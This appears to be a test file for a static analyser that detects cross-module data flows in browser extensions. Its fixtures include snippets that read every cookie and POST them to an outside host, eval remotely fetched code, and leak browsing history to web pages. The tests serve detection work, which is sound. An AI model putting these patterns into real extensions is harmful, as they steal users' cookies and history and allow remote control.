import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../../../testing/flows-between.ts';

const module = { background: { service_worker: 'worker.js', type: 'module' } };
const classic = { background: { scripts: ['a.js', 'b.js'] }, manifest_version: 2 };

const theft = 'cookies worker.js > network api.js (theft, high)';
const jar = 'const jar = await chrome.cookies.getAll({});';
const post = "fetch('https://in.a.dev', { method: 'POST', body: x })";

describe('flows between modules', () => {
  const pairs: readonly [string, string, string][] = [
    [
      'a named function',
      `import { send } from './api.js'; ${jar} send(jar);`,
      `export function send(x) { ${post} }`,
    ],
    [
      'a renamed one',
      `import { send as tell } from './api.js'; ${jar} tell({ jar });`,
      `const s = (x) => ${post}; export { s as send };`,
    ],
    [
      'the default',
      `import send from './api.js'; ${jar} send(jar);`,
      `export default function (x) { ${post} }`,
    ],
    [
      'a namespace',
      `import * as api from './api.js'; ${jar} api.send(jar);`,
      `export const send = async (x) => { await ${post} };`,
    ],
    [
      'a method of a default object',
      `import api from './api.js'; ${jar} api.send(jar);`,
      `export default { send(x) { ${post} } };`,
    ],
    [
      'a method of a class',
      `import { Api } from './api.js'; const api = new Api(); ${jar} api.send(jar);`,
      `export class Api { send(x) { ${post} } }`,
    ],
    [
      'a dynamic import',
      `const { send } = await import('./api.js'); ${jar} send(jar);`,
      `export function send(x) { ${post} }`,
    ],
    [
      'require',
      `const api = require('./api.js'); (async () => { ${jar} api.send(jar) })();`,
      `module.exports = { send };\nfunction send(x) { ${post} }`,
    ],
    [
      'exports',
      `const { send } = require('./api'); (async () => { ${jar} send(jar) })();`,
      `exports.send = (x) => ${post};`,
    ],
  ];
  for (const [what, worker, api] of pairs) {
    it(`lead into ${what}`, () => {
      assert.deepEqual(flowsBetween({ 'worker.js': worker, 'api.js': api }, module), [theft]);
      const other = worker.replace(/(\b(?:send|tell)\()/, '(() => 1)(').replace('api.(()', '(()');
      assert.deepEqual(flowsBetween({ 'worker.js': other, 'api.js': api }, module), []);
    });
  }

  it('lead through what is exported again', () => {
    const files = {
      'worker.js': `import { send } from './index.js'; ${jar} send(jar);`,
      'index.js': `export * from './other.js'; export * from './api.js';`,
      'other.js': 'export const other = 5;',
      'api.js': `export function send(x) { ${post} }`,
    };
    assert.deepEqual(flowsBetween(files, module), [theft]);
    const named = {
      ...files,
      'index.js': `import { go } from './api.js'; export { go as send };`,
      'api.js': `export function go(x) { ${post} }`,
    };
    assert.deepEqual(flowsBetween(named, module), [theft]);
  });

  it('come out of results and values', () => {
    const files = {
      'worker.js': `import { load, code } from './api.js'; load('a').then((text) => eval(text)); `,
      'api.js': `export async function load(what) { const r = await fetch('https://a.dev/' + what); return r.text() }`,
    };
    assert.deepEqual(flowsBetween(files, module), [
      'network-response api.js > code-execution worker.js (remote-control, high)',
    ]);
  });

  it('come out of callbacks', () => {
    const files = {
      'worker.js': `import { load } from './api.js'; load('a', (text) => eval(text)); `,
      'api.js': `export function load(what, done) { fetch('https://a.dev/' + what).then((r) => r.text()).then((t) => done(t)) }`,
    };
    assert.deepEqual(flowsBetween(files, module), [
      'network-response api.js > code-execution worker.js (remote-control, high)',
    ]);
  });

  it('lead through functions that hand data on', () => {
    const files = {
      'worker.js': `import { pack } from './pack.js'; import { send } from './api.js'; ${jar} send(pack(jar));`,
      'pack.js': `export const pack = (value) => ({ value });`,
      'api.js': `export function send(x) { ${post} }`,
    };
    assert.ok(flowsBetween(files, module).join().startsWith('cookies worker.js > network api.js'));
  });

  it('start at listeners of another module', () => {
    const files = {
      'worker.js': `import { handle } from './handle.js'; chrome.runtime.onMessageExternal.addListener(handle);`,
      'handle.js': `export function handle(message) { chrome.downloads.download({ url: message.url }) }`,
    };
    assert.deepEqual(flowsBetween(files, module), [
      'external-message worker.js > download handle.js (exposure, high)',
    ]);
  });

  it('answer messages in another module', () => {
    const files = {
      'worker.js': `import { handle } from './handle.js'; chrome.runtime.onMessage.addListener(handle);`,
      'handle.js': `export function handle(message, sender, reply) { chrome.history.search({ text: '' }, (list) => reply({ list })); return true }`,
      'content.js': `chrome.runtime.sendMessage({ get: 1 }, ({ list }) => window.postMessage(list, '*'))`,
    };
    assert.ok(
      flowsBetween(files, module).includes(
        'history handle.js > page-message content.js (exposure, high)',
      ),
      flowsBetween(files, module).join('\n'),
    );
  });
});

describe('flows between classic scripts', () => {
  const cases: readonly [string, string, string][] = [
    ['a function', `function send(x) { ${post} }`, 'chrome.cookies.getAll({}, (jar) => send(jar))'],
    [
      'a method of a global object',
      `window.Api = { send: (x) => ${post} };`,
      'chrome.cookies.getAll({}, (jar) => Api.send(jar))',
    ],
    [
      'a module pattern',
      `var Api = (function () { function send(x) { ${post} } return { send } })();`,
      'chrome.cookies.getAll({}, (jar) => window.Api.send(jar))',
    ],
    ['a function handed on', `function send(x) { ${post} }`, 'chrome.cookies.getAll({}, send)'],
  ];
  for (const [what, a, b] of cases) {
    it(`of one page lead into ${what}`, () => {
      assert.deepEqual(flowsBetween({ 'a.js': a, 'b.js': b }, classic), [
        'cookies b.js > network a.js (theft, high)',
      ]);
    });
    it(`of different pages do not lead into ${what}`, () => {
      const apart = {
        background: { scripts: ['b.js'] },
        content_scripts: [{ matches: ['<all_urls>'], js: ['a.js', 'c.js'] }],
        manifest_version: 2,
      };
      assert.deepEqual(flowsBetween({ 'a.js': a, 'b.js': b, 'c.js': '' }, apart), []);
    });
  }

  it('of one worker lead through importScripts', () => {
    const files = {
      'worker.js': `importScripts('api.js'); chrome.cookies.getAll({}, (jar) => send(jar));`,
      'api.js': `function send(x) { ${post} }`,
    };
    assert.deepEqual(flowsBetween(files), [theft]);
  });
});
